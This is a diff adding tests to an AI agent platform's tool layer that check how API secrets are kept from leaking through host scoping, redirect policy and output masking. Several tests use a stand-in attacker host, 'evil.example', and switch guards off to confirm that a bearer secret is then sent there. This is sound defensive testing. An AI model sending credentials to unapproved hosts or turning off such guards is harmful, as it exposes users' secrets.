@@ -10,6 +10,8 @@ import type { ActivityNote } from '../../../main/core/base/audit/index.ts';
 import type { GuardedRequest, GuardPolicy } from '../../../main/core/base/http/index.ts';
 import type { RunContext } from '../../../main/core/engine/runs/index.ts';
 import { createTools, createToolSession, type Tools, type ToolSession } from '../../../main/core/engine/tools/index.ts';
+import { secretMask } from '../../../main/core/engine/tools/secret-mask.ts';
+import { ALL_SECRET_GUARDS, type SecretGuards } from '../../../main/core/engine/tools/host-calls/scope.ts';
 import type { HostCalls } from '../../../sandbox/host/index.ts';
 import { scriptedModel, TestPlugins, type ScriptedModel } from '../agents/workshop.ts';
 import { openTestHome, type TestHome } from '../runs/home.ts';
@@ -27,6 +29,7 @@ let emitted: { type: string; data: unknown }[];
 let questions: number;
 let answer: 'allow' | 'deny';
 let tools: Tools;
+let make: (guards?: Partial<SecretGuards>) => void;
 let session: ToolSession;
 let told: ActivityNote[];
 let calls: unknown[];
@@ -43,15 +46,16 @@ beforeEach(async () => {
   reply = { status: 200, body: new TextEncoder().encode('hello') };
   model = scriptedModel(() => ({ text: '{"n": 1}' }));
   act = () => Promise.resolve(null);
-  tools = createTools({
-    plugins, store: home.store, userSalt: 'salt', activity: { note: (note) => { told.push(note); }, call: (call) => { calls.push(call); } },
+  make = (guards) => { tools = createTools({
+    ...(guards && { guards: { ...ALL_SECRET_GUARDS, ...guards } }), plugins, store: home.store, userSalt: 'salt', activity: { note: (note) => { told.push(note); }, call: (call) => { calls.push(call); } },
     secrets: { withSecret: (_plugin, key, use) => (key === 'api_key' ? Promise.resolve(use(SECRET)) : Promise.reject(new AppError('credentials/not-found', 'Not entered.'))) },
     http: { guardedFetch: (request, policy) => { asked.push({ request, policy }); return Promise.resolve({ status: reply.status, statusText: 'OK', url: reply.url ?? request.url, headers: [['x', 'y']], body: reply.body }); } },
     sandbox: { run: async (request) => {
       const inner = request.entry.kind === 'tool' && request.entry.tool === 'inner';
       return { output: inner ? { got: request.input, depth: request.depth } : await act(request.hostCalls, request.signal ?? new AbortController().signal), logs: [], metrics: { wallMs: 1, cpuMs: 1, hostCalls: 1 } };
     } },
-  });
+  }); };
+  make();
   let id = 0;
   const context = {
     run: { id: 'run', conversationId: null, hireId: null }, past: [], signal: new AbortController().signal, clock: { now: () => 1 }, ids: { next: () => `i${id += 1}` }, limits: {},
@@ -161,6 +165,83 @@ describe('fetch and secrets', () => {
     await expect(use([], 'fetch', get('nonsense'))).rejects.toMatchObject({ code: 'core/bad-input' });
     reply.url = 'https://a.example/other';
     await expect(use(['network:a.example'], 'fetch', get('https://a.example/', { redirect: 'error' }))).rejects.toMatchObject({ code: 'core/unreachable' });
+  });
+});
+
+describe('X8 each defence of secrets, and what happens without it', () => {
+  const grants = ['network:api.example.com', 'network:evil.example', 'secret:api_key@api.example.com', 'storage:1000'];
+  const bearer = { headers: [['authorization', 'Bearer {{secret:api_key}}']] };
+  const sentTo = (host: string): string => JSON.stringify(asked.filter(({ request }) => new URL(request.url).host === host));
+
+  it('hosts', async () => {
+    await expect(use(grants, 'fetch', get('https://evil.example/', bearer))).rejects.toEqual(refused('secret:api_key@evil.example'));
+    make({ hosts: false });
+    await use(grants, 'fetch', get('https://evil.example/', bearer));
+    expect(sentTo('evil.example')).toContain(JSON.stringify(SECRET).slice(1, -1).replaceAll('\\', '\\'));
+  });
+
+  it('redirects', async () => {
+    const post = get('https://api.example.com/', { method: 'POST', headers: [['content-type', 'application/json']], body: '{"key":"{{secret:api_key}}"}' });
+    const judge = (to: string, withBody: boolean): void => { asked.at(-1)?.policy.follow?.(new URL(to), withBody); };
+    await use(grants, 'fetch', post);
+    expect(() => { judge('https://evil.example/', true); }).toThrow('was not granted for evil.example');
+    expect(() => { judge(`https://evil.example/?q=${encodeURIComponent(SECRET)}`, false); }).toThrow('was not granted for evil.example');
+    judge('https://evil.example/', false);
+    judge('https://api.example.com/again', true);
+    make({ redirects: false });
+    await use(grants, 'fetch', post);
+    expect(asked.at(-1)?.policy.follow).toBeUndefined();
+  });
+
+  it('mask', async () => {
+    const echo = `${SECRET} ${JSON.stringify(SECRET)} ${encodeURIComponent(SECRET)} ${Buffer.from(SECRET).toString('hex')} ${Buffer.from(`a:${SECRET}`).toString('base64')}`;
+    reply.body = new TextEncoder().encode(echo);
+    const clean = await use(grants, 'fetch', get('https://api.example.com/', bearer)) as { body: string };
+    expect(clean.body).toMatch(/^{{secret:api_key}} "{{secret:api_key}}" {{secret:api_key}} {{secret:api_key}} YT.?{{secret:api_key}}.{0,4}$/);
+    // Also where this very request carried none.
+    expect((await use(grants, 'fetch', get('https://api.example.com/')) as { body: string }).body).toBe(clean.body);
+    await use([...grants, 'secret_read:api_key'], 'storage.set', { key: 's', value: { [SECRET]: [SECRET] } });
+    expect(await use(grants, 'storage.get', { key: 's' })).toEqual({ '{{secret:api_key}}': ['{{secret:api_key}}'] });
+    make({ mask: false });
+    expect((await use(grants, 'fetch', get('https://api.example.com/', bearer)) as { body: string }).body).toBe(echo);
+    await use(grants, 'storage.delete', { key: 's' });
+  });
+
+  it('no form of any secret is left in any text, and a text without it stays as it is', async () => {
+    const code = plugins.add('dev.test.masked', { grants: ['secret_read:k'], manifest: {} });
+    await fc.assert(fc.asyncProperty(fc.string({ minLength: 6, maxLength: 60, unit: 'grapheme' }), fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), async (secret, before, after) => {
+      const mask = await secretMask(code, { withSecret: async (_owner, _key, use) => use(secret) });
+      const inner = Buffer.from(before + secret + after).toString('base64').slice(Math.ceil(Buffer.byteLength(before) * 8 / 6), Math.floor(Buffer.byteLength(before + secret) * 8 / 6));
+      for (const form of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('hex'), ...(inner.length >= 6 ? [inner] : [])]) {
+        if ('{{secret:k}}'.includes(form)) continue;
+        expect(mask.text(`${before}${form}${after}`)).not.toContain(form);
+        expect(Buffer.from(await mask.bytes(Buffer.from(`${before}${form}${after}`))).includes(form)).toBe(false);
+      }
+      expect(mask.text('§')).toBe('§');
+    }), { numRuns: 60 });
+  });
+});
+
+describe('A1 values of one agent', () => {
+  it('stand in place of its plugin’s, in its own plugin alone, as far as they fit', async () => {
+    let config: unknown;
+    const code = plugins.add(PLUGIN, { grants: [], manifest: { configuration: { optional: [{ key: 'tone', type: 'string' }, { key: 'limit', type: 'number', default: 3 }] }, capabilities: { tools: [{ id: 'outer', name: 'Outer', description: 'Calls.', effect: 'read' }] } }, files: { 'dist/plugin.js': '' } });
+    Object.assign(code.config as object, { tone: 'short', limit: 3 });
+    tools = createTools({ plugins, store: home.store, userSalt: 'salt', secrets: { withSecret: () => Promise.reject(new AppError('credentials/not-found', 'None.')) }, http: { guardedFetch: () => Promise.reject(new Error('not here')) },
+      sandbox: { run: (request) => { config = request.context.config; return Promise.resolve({ output: null, logs: [], metrics: { wallMs: 1, cpuMs: 1, hostCalls: 0 } }); } } });
+    const called = async (hireId: string | null): Promise<unknown> => {
+      const its = createToolSession({ ...session.context, run: { ...session.context.run, hireId } }, () => Promise.resolve(model));
+      await tools.invoke(its, await tools.find(`${PLUGIN}/outer`), { callId: 'c', input: {}, depth: 1, readOnly: false, standing: 'approved', signal: new AbortController().signal });
+      return config;
+    };
+    await home.store.write('insertHire', { id: 'own', name: 'Own', pluginId: PLUGIN, agentId: 'a', model: null, at: 1 });
+    await home.store.write('insertHire', { id: 'other', name: 'Other', pluginId: OTHER, agentId: 'a', model: null, at: 1 });
+    for (const id of ['own', 'other']) await home.store.write('configureHire', { id, set: { tone: 'long', limit: 'many', ghost: 1 }, reset: [], at: 2 });
+    expect(await called(null)).toEqual({ tone: 'short', limit: 3 });
+    expect(await called('own')).toEqual({ tone: 'long', limit: 3 });
+    expect(await called('other')).toEqual({ tone: 'short', limit: 3 });
+    await home.store.write('configureHire', { id: 'own', set: {}, reset: ['tone'], at: 3 });
+    expect(await called('own')).toEqual({ tone: 'short', limit: 3 });
   });
 });
 
